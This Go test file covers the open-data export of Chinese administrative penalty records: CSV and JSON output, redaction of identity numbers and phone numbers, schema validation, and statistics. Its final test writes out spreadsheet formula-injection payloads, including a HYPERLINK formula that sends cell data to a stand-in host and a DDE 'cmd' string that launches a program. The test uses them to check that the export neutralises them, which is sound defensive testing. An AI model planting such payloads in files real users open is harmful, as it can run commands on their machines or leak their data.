package enforcement

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/fazhi-dev/fazhi/internal/legal"
)

// openRecords publishes privacyCSV plus goodPenalty (decided 2024-09-27)
// and a row to come (online 2024-04-10) on 2024-04-01: 张某 and 欧阳某's
// shop are public, 李某's decision is revoked, the last is not online yet
// and the company's is not decided yet.
func openRecords(t *testing.T) []*Published {
	t.Helper()
	pending := strings.Replace(strings.Replace(goodPenalty, "〔2024〕12号", "〔2024〕30号", 1), "2024-09-27,,某市市场监督管理局,"+authCode+",2024-10-08", "2024-03-29,,某市市场监督管理局,"+authCode+",2024-04-10", 1)
	s, fs := load(t, Penalty, privacyCSV+pending)
	if len(fs) != 0 || len(s.Decisions) != 4 {
		t.Fatalf("%d decisions, findings:\n%s", len(s.Decisions), formatFindings(fs))
	}
	loc := time.FixedZone("CST", 8*3600)
	now := time.Date(2024, 4, 1, 12, 0, 0, 0, loc)
	var recs []*Published
	for _, d := range s.Decisions {
		r, ok := Publish(d, Privacy{}, now, loc)
		if ok {
			recs = append(recs, r)
		}
	}
	return recs
}

func TestOpenDataCSV(t *testing.T) {
	out := CSV(Penalty, openRecords(t))
	if !bytes.HasPrefix(out, []byte{0xEF, 0xBB, 0xBF}) {
		t.Fatalf("no UTF-8 byte-order mark: % x", out[:8])
	}
	if !bytes.Contains(out, []byte("\r\n")) {
		t.Error("lines do not end in CRLF")
	}
	rows, err := csv.NewReader(bytes.NewReader(out[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want the header and the 2 public decisions:\n%s", len(rows), out)
	}
	head := strings.Join(rows[0], ",")
	if want := "行政相对人名称,行政相对人类别,统一社会信用代码,法定代表人,行政处罚决定书文号,违法行为类型,违法事实,处罚依据,处罚类别,处罚内容,罚款金额（万元）,没收违法所得、没收非法财物的金额（万元）,暂扣或吊销证照名称及编号,处罚决定日期,公示截止期,处罚机关,处罚机关统一社会信用代码,数据来源单位,备注,公示日期,状态"; head != want {
		t.Errorf("header\n%s\nwant\n%s", head, want)
	}
	if want := "张某,自然人,,,某市监罚〔2024〕21号,无照经营,张某（身份证号" + Removed + "，电话" + Removed + "）在某路摆摊经营,《无证无照经营查处办法》第十三条,罚款,对张某罚款二千元，缴入银行卡 " + Removed + " 以外的账户,0.2,,,2024-03-01,2025-03-01,某市市场监督管理局," + authCode + ",,,2024-03-05,公示中"; strings.Join(rows[1], ",") != want {
		t.Errorf("row 1\n%s\nwant\n%s", strings.Join(rows[1], ","), want)
	}
	if rows[2][0] != "某区欧阳某小吃店" || rows[2][3] != "欧阳某" {
		t.Errorf("row 2 %q", rows[2])
	}
	for _, raw := range []string{"张三丰", "欧阳明", "李小龙", "李某", idNumber, phone, bankCard, "〔2024〕23号", "〔2024〕30号", "身份证,"} {
		if bytes.Contains(out, []byte(raw)) {
			t.Errorf("data.csv contains %q", raw)
		}
	}
}

// TestOpenDataJSONSchema validates data.json against the published schema
// in docs/schema/enforcement.schema.json, and shows that the schema can
// fail: a record with an identity number, or one that is not public, is
// rejected.
func TestOpenDataJSONSchema(t *testing.T) {
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	path, _ := filepath.Abs(filepath.Join("..", "..", "docs", "schema", "enforcement.schema.json"))
	sch, err := c.Compile(path)
	if err != nil {
		t.Fatal(err)
	}
	out := JSON(Penalty, "行政处罚公示", "/xzcf/", "2024-04-01", openRecords(t))
	validate := func(s string) error {
		var doc any
		if err := json.Unmarshal([]byte(s), &doc); err != nil {
			t.Fatal(err)
		}
		return sch.Validate(doc)
	}
	if err := validate(string(out)); err != nil {
		t.Fatalf("data.json does not match its schema:\n%v\n%s", err, out)
	}
	var doc OpenData
	json.Unmarshal(out, &doc)
	if doc.Count != 2 || len(doc.Records) != 2 || doc.Records[0].Party != "张某" || len(doc.Fields) != len(OpenFields(Penalty)) {
		t.Errorf("document %+v", doc)
	}
	for _, raw := range []string{"张三丰", "欧阳明", "李小龙", idNumber, phone, bankCard} {
		if bytes.Contains(out, []byte(raw)) {
			t.Errorf("data.json contains %q", raw)
		}
	}
	for name, bad := range map[string]string{
		"identity number": strings.Replace(string(out), `"party": "张某",`, `"party": "张某", "idNumber": "`+idNumber+`",`, 1),
		"revoked record":  strings.Replace(string(out), `"state": "公示中"`, `"state": "撤销"`, 1),
		"bad 文号":          strings.Replace(string(out), `"number": "某市监罚〔2024〕21号"`, `"number": "某市监罚[2024]21号"`, 1),
	} {
		if bad == string(out) {
			t.Fatalf("%s: replacement did not apply", name)
		}
		if err := validate(bad); err == nil {
			t.Errorf("schema accepted a %s", name)
		}
	}
	// An empty column is still a valid document, with an empty list.
	if empty := JSON(Permit, "行政许可公示", "/xzxk/", "2024-04-01", nil); validate(string(empty)) != nil || !bytes.Contains(empty, []byte(`"records": []`)) {
		t.Errorf("empty document:\n%s", empty)
	}
}

func TestStats(t *testing.T) {
	f := func(v float64) *float64 { return &v }
	rec := func(decided, category string, fine *float64, st legal.State) *Published {
		r := rec(decided+"号", decided, category, "某局", st)
		r.Fine = fine
		return r
	}
	rs := []*Published{
		rec("2024-01-05", "罚款", f(0.1), legal.StatePublic),
		rec("2024-01-20", "警告、罚款", f(0.2), legal.StatePublic),
		rec("2024-03-01", "警告", nil, legal.StatePublic),
		rec("2024-03-02", "罚款", f(5), legal.StateRevoked),
		rec("2023-12-31", "罚款", f(1), legal.StatePublic),
	}
	s := Stats(rs, 2024)
	if s.Total != 3 || s.Months != [12]int{2, 0, 1} || s.FineCount != 2 || FormatWanYuan(s.Fines) != "0.3" || FormatWanYuan(s.MonthFines[0]) != "0.3" {
		t.Errorf("stats %+v (fines %s)", s, FormatWanYuan(s.Fines))
	}
	if len(s.Categories) != 2 || s.Categories[0] != (CategoryCount{"罚款", 2}) || s.Categories[1] != (CategoryCount{"警告", 2}) {
		t.Errorf("categories %+v", s.Categories)
	}
	if y := StatYears(rs); len(y) != 2 || y[0] != 2024 || y[1] != 2023 {
		t.Errorf("years %v", y)
	}
	for fen, want := range map[int64]string{0: "0", 1: "0.000001", 1500000: "1.5", 12345678: "12.345678", 100000000: "100"} {
		if got := FormatWanYuan(fen); got != want {
			t.Errorf("FormatWanYuan(%d) = %q, want %q", fen, got, want)
		}
	}
}

func TestAsOf(t *testing.T) {
	rs := []*Published{
		{Online: "2024-03-05", Deadline: "2024-06-01"},
		{Online: "2024-03-20", Deadline: "2025-03-01"},
		{Online: "2024-04-10"}, // not yet online on 04-01
		{Decided: "2024-02-01", ValidTo: "2024-03-09"},
	}
	for today, want := range map[string]string{
		"2024-01-15": "2024-01-15", // nothing yet: today
		"2024-03-01": "2024-02-01", // the permit (no 公示日期: its decision)
		"2024-03-10": "2024-03-10", // the permit lapsed on 03-10
		"2024-04-01": "2024-03-20",
		"2024-06-01": "2024-04-10", // still public through 06-01
		"2024-06-02": "2024-06-02", // the first one left today
		"2024-12-31": "2024-06-02",
	} {
		if got := AsOf(rs, today); got != want {
			t.Errorf("AsOf(%s) = %s, want %s", today, got, want)
		}
	}
}

// TestOpenDataCSVFormula: a cell that a spreadsheet would take for a
// formula (=, +, -, @, or a tab or carriage return first) is written with
// a leading apostrophe, so that opening data.csv in Excel or WPS never
// runs =HYPERLINK(…) or =cmd|…; numbers stay numbers, and data.json keeps
// the text as the page shows it.
func TestOpenDataCSVFormula(t *testing.T) {
	recs := openRecords(t)
	r := recs[0]
	r.Facts = `=HYPERLINK("http://example.invalid/?"&A1,"点击")`
	r.Content = "+1+cmd|' /C calc'!A0"
	r.Note = "@SUM(1+1)"
	r.Basis = "-2+3"
	r.Licence = "\t=1+1"
	neg := -0.5
	r.Confiscated = &neg
	out := CSV(Penalty, recs)
	rows, err := csv.NewReader(bytes.NewReader(out[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for head, want := range map[string]string{
		"违法事实":         `'=HYPERLINK("http://example.invalid/?"&A1,"点击")`,
		"处罚内容":         "'+1+cmd|' /C calc'!A0",
		"备注":           "'@SUM(1+1)",
		"处罚依据":         "'-2+3",
		"暂扣或吊销证照名称及编号": "'\t=1+1",
		"没收违法所得、没收非法财物的金额（万元）": "-0.5",
		"罚款金额（万元）":             "0.2",
		"行政相对人名称":              "张某",
	} {
		if got[head] != want {
			t.Errorf("%s = %q, want %q", head, got[head], want)
		}
	}
	if j := JSON(Penalty, "行政处罚", "/zhifa/", "2024-04-01", recs); !bytes.Contains(j, []byte(`"note": "@SUM(1+1)"`)) {
		t.Errorf("data.json changed the text:\n%s", j)
	}
}
